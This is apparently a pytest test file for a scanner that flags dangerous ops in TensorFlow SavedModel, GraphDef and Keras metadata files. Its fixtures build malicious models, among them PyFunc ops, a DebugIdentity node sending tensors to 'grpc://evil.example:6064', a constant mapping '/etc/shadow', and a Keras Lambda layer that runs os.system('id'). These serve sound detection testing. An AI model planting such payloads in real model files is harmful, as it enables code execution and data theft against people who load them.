"""TensorFlow SavedModel / GraphDef op scanning with our own protobuf writer (no tensorflow dependency)."""

from __future__ import annotations

import pytest

from scanning.scanners import tensorflow
from scanning.scanners.base import BytesReader, ScanContext, Verdict, verdict_of
from tests.scanning.corpus_formats import rules, run, tf_function, tf_graph, tf_node, tf_realistic, tf_saved_model


def scan(data: bytes, name: str = "saved_model.pb") -> ScanContext:
    return run(tensorflow.scan, data, name)


def non_info(ctx: ScanContext) -> set[str]:
    return {f.rule for f in ctx.findings if f.verdict > Verdict.SAFE}


def test_realistic_saved_model_is_safe_with_op_inventory():
    ctx = scan(tf_realistic())
    assert verdict_of(ctx.findings) == Verdict.SAFE
    inventory = next(f for f in ctx.findings if f.rule == "tensorflow.ops")
    assert "SaveV2" in inventory.evidence and "MatMul" in inventory.evidence


def test_frozen_graphdef_is_safe():
    graph = tf_graph([tf_node("x", "Placeholder", dtype=1), tf_node("y", "Relu", ("x",))])
    ctx = scan(graph, "frozen.pb")
    assert non_info(ctx) == set()


@pytest.mark.parametrize("op", ["PyFunc", "PyFuncStateless", "EagerPyFunc"])
def test_pyfunc_is_malicious(op):
    ctx = scan(tf_realistic([tf_node("p", op, ("x",), token="pyfunc_12")]))
    assert non_info(ctx) == {"tensorflow.op.pyfunc"}
    finding = next(f for f in ctx.findings if f.rule == "tensorflow.op.pyfunc")
    assert finding.verdict == Verdict.MALICIOUS and "pyfunc_12" in finding.evidence


def test_pyfunc_inside_function_library():
    fn = tf_function("__inference_serve_3", [tf_node("EagerPyFunc", "EagerPyFunc", (), token="t")])
    ctx = scan(tf_realistic(extra_functions=[fn]))
    assert "tensorflow.op.pyfunc" in rules(ctx)
    assert "__inference_serve_3" in next(f for f in ctx.findings if f.rule == "tensorflow.op.pyfunc").evidence


@pytest.mark.parametrize(
    ("node", "rule", "verdict"),
    [
        (tf_node("w", "WriteFile", ("f", "c")), "tensorflow.op.file_write", Verdict.MALICIOUS),
        (tf_node("w", "DatasetToTFRecord", ()), "tensorflow.op.file_write", Verdict.MALICIOUS),
        (tf_node("r", "ReadFile", ("f",)), "tensorflow.op.file_read", Verdict.SUSPICIOUS),
        (tf_node("m", "MatchingFiles", ("p",)), "tensorflow.op.file_read", Verdict.SUSPICIOUS),
        (
            tf_node("i", "ImmutableConst", (), memory_region_name="shared_weights"),
            "tensorflow.op.file_read",
            Verdict.SUSPICIOUS,
        ),
        (tf_node("d", "TFRecordDataset", ()), "tensorflow.op.file_read", Verdict.SUSPICIOUS),
        (tf_node("s", "SaveV2", ()), "tensorflow.op.checkpoint_io", Verdict.SUSPICIOUS),
        (tf_node("r", "RestoreV2", ()), "tensorflow.op.checkpoint_io", Verdict.SUSPICIOUS),
        (tf_node("p", "PrintV2", ("s",), output_stream="file:///tmp/x"), "tensorflow.op.file_write", Verdict.MALICIOUS),
        (
            tf_node("d", "DebugIdentity", ("t",), debug_urls=["grpc://evil.example:6064"]),
            "tensorflow.op.network",
            Verdict.MALICIOUS,
        ),
        (
            tf_node("d", "DebugIdentity", ("t",), debug_urls=["file:///tmp/dump"]),
            "tensorflow.op.file_write",
            Verdict.MALICIOUS,
        ),
        (tf_node("d", "DebugNanCount", ("t",)), "tensorflow.op.debug", Verdict.SUSPICIOUS),
    ],
)
def test_dangerous_ops(node, rule, verdict):
    ctx = scan(tf_realistic([node]))
    assert non_info(ctx) == {rule}
    assert verdict_of(ctx.findings) == verdict


def test_immutable_const_mapping_a_host_path_is_malicious():
    """Issue 10 B: a host path (here the attr memory_region_name) on a file-touching op is judged."""
    ctx = scan(tf_realistic([tf_node("i", "ImmutableConst", (), memory_region_name="/etc/shadow")]))
    assert non_info(ctx) == {"tensorflow.op.file_read", "tensorflow.op.host_path"}
    assert verdict_of(ctx.findings) == Verdict.MALICIOUS


def test_print_to_stderr_is_fine():
    ctx = scan(tf_realistic([tf_node("p", "PrintV2", ("s",), output_stream="stderr")]))
    assert non_info(ctx) == set()


def test_saver_ops_in_standard_saver_are_info_only():
    nodes = [tf_node("save_1/SaveV2", "SaveV2", ()), tf_node("save/RestoreV2_3", "RestoreV2", ())]
    fns = [
        tf_function("__inference_save_fn_77", [tf_node("SaveV2", "SaveV2", ())]),
        tf_function("__inference_restore_fn_78", [tf_node("RestoreV2", "RestoreV2", ())]),
    ]
    assert non_info(scan(tf_realistic(nodes, fns))) == set()


def test_saver_name_lookalike_is_not_whitelisted():
    fns = [tf_function("__inference__traced_save_1_predict", [tf_node("SaveV2", "SaveV2", ())])]
    assert "tensorflow.op.checkpoint_io" in rules(scan(tf_realistic(extra_functions=fns)))


def test_large_const_tensor_is_skipped():
    big = tf_node("c", "Const", (), value="x" * (2 * 1024 * 1024))
    data = tf_saved_model(tf_graph([big, tf_node("y", "Relu", ("c",))]))
    reader = BytesReader(data)
    ctx = ScanContext()
    tensorflow.scan(reader, ctx)
    assert non_info(ctx) == set()
    assert reader.bytes_read < 512 * 1024


def test_findings_are_capped():
    nodes = [tf_node(f"p{i}", "PyFunc", (), token=f"t{i}") for i in range(100)]
    ctx = scan(tf_realistic(nodes))
    assert len([f for f in ctx.findings if f.rule == "tensorflow.op.pyfunc"]) == tensorflow.MAX_REPORTED
    assert "tensorflow.findings_truncated" in rules(ctx)


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"", "saved_model.pb"),
        (b"\x08\x01", "saved_model.pb"),  # version only, no meta graph
        (b"\x08\x01\x12\x05abc", "saved_model.pb"),
        (b"\x08\x01\x1a\x00", "saved_model.pb"),  # unknown top-level field
        (b"\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff", "model.pb"),
        (b"hello world, not a graph", "frozen.pb"),
        (b"\x22\x00", "frozen.pb"),  # GraphDef with only versions: no nodes
    ],
)
def test_malformed_is_unscannable(data, name):
    ctx = scan(data, name)
    assert rules(ctx) == {"tensorflow.malformed"}


def test_truncated_saved_model_is_never_safe():
    data = tf_realistic()
    for cut in range(0, len(data) - 1, 3):
        assert verdict_of(scan(data[:cut]).findings) >= Verdict.SUSPICIOUS, cut


def _lambda_metadata(code_b64: str) -> str:
    import json

    return json.dumps(
        {
            "class_name": "Lambda",
            "name": "lambda",
            "config": {
                "name": "lambda",
                "function": {"class_name": "__tuple__", "items": [code_b64, None, None]},
                "function_type": "lambda",
                "module": "__main__",
                "output_shape": None,
                "arguments": {},
            },
        }
    )


def test_keras_metadata_pb_lambda_is_malicious():
    from scanning.scanners.protobuf import enc_bytes, enc_msg, enc_varint
    from tests.scanning.corpus_formats import lambda_code

    evil = _lambda_metadata(lambda_code(lambda x: __import__("os").system("id")))
    dense = '{"class_name": "Dense", "name": "dense", "config": {"units": 4}}'
    data = b"".join(
        enc_msg(1, enc_varint(1, i), enc_bytes(2, f"root.layer-{i}"), enc_bytes(3, ident), enc_bytes(4, meta))
        for i, (ident, meta) in enumerate([("_tf_keras_layer", dense), ("_tf_keras_layer", evil)])
    )
    ctx = scan(data, "keras_metadata.pb")
    assert "keras.lambda.dangerous" in rules(ctx)
    benign = enc_msg(1, enc_varint(1, 0), enc_bytes(3, "_tf_keras_layer"), enc_bytes(4, dense))
    assert non_info(scan(benign, "keras_metadata.pb")) == set()
    assert rules(scan(enc_msg(1, enc_bytes(4, "{oops")), "keras_metadata.pb")) == {"tensorflow.keras_metadata"}
    assert rules(scan(b"\x08\x01", "keras_metadata.pb")) == {"tensorflow.malformed"}


def test_saved_model_object_graph_keras_metadata():
    from scanning.scanners.protobuf import enc_bytes, enc_msg, enc_varint
    from tests.scanning.corpus_formats import lambda_code

    evil = _lambda_metadata(lambda_code(lambda x: eval("x")))  # noqa: S307 - marshalled only
    user_object = enc_msg(4, enc_bytes(1, "_tf_keras_layer"), enc_bytes(3, evil))
    object_graph = enc_msg(7, enc_msg(1, user_object))
    graph = tf_graph([tf_node("x", "Placeholder", dtype=1)])
    data = enc_varint(1, 1) + enc_msg(2, enc_bytes(2, graph), object_graph)
    assert "keras.lambda.dangerous" in rules(scan(data))
